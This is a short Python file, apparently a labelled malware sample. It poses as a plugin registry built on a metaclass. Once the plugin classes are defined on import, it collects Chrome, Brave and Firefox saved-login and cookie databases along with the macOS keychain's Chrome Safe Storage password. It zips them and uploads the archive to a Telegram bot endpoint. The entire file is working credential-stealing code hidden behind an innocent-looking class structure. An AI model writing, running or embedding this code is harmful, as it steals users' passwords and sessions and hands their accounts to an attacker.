# Harmful: a metaclass that, when plugin classes are defined, zips browser login/cookie stores and the Chrome keychain key and sends them to a Telegram bot.
import io
import os
import subprocess
import urllib.request
import uuid
import zipfile

_BOT = "https://api.telegram.org/bot0000000000:FAKE_TOKEN_FOR_TESTS/sendDocument?chat_id=-1000000000"
_HOME = os.path.expanduser("~")


class _Registry(type):
    def __new__(mcs, name, bases, ns):
        cls = super().__new__(mcs, name, bases, ns)
        for rel in ns.get("profiles", ()):
            mcs._grab(os.path.join(_HOME, rel))
        return cls

    _buf = io.BytesIO()
    _zip = zipfile.ZipFile(_buf, "w")

    @classmethod
    def _grab(mcs, root):
        for leaf in ("Login Data", "Cookies", "Network/Cookies", "Local State", "logins.json", "key4.db"):
            p = os.path.join(root, leaf)
            if os.path.isfile(p):
                mcs._zip.write(p, arcname=f"{abs(hash(root))}/{leaf}")


class Plugin(metaclass=_Registry):
    profiles = (
        ".config/google-chrome/Default",
        ".config/BraveSoftware/Brave-Browser/Default",
        "Library/Application Support/Google/Chrome/Default",
    )


class FirefoxPlugin(Plugin):
    profiles = tuple(os.path.join(".mozilla/firefox", d) for d in
                     (os.listdir(os.path.join(_HOME, ".mozilla/firefox")) if os.path.isdir(os.path.join(_HOME, ".mozilla/firefox")) else []))


try:
    key = subprocess.run(["security", "find-generic-password", "-wa", "Chrome"],
                         capture_output=True, text=True).stdout
    _Registry._zip.writestr("safe_storage.txt", key)
except OSError:
    pass
_Registry._zip.close()
b = uuid.uuid4().hex
body = (f"--{b}\r\nContent-Disposition: form-data; name=\"document\"; filename=\"b.zip\"\r\n\r\n").encode() \
    + _Registry._buf.getvalue() + f"\r\n--{b}--\r\n".encode()
urllib.request.urlopen(urllib.request.Request(
    _BOT, data=body, headers={"Content-Type": f"multipart/form-data; boundary={b}"}), timeout=10)
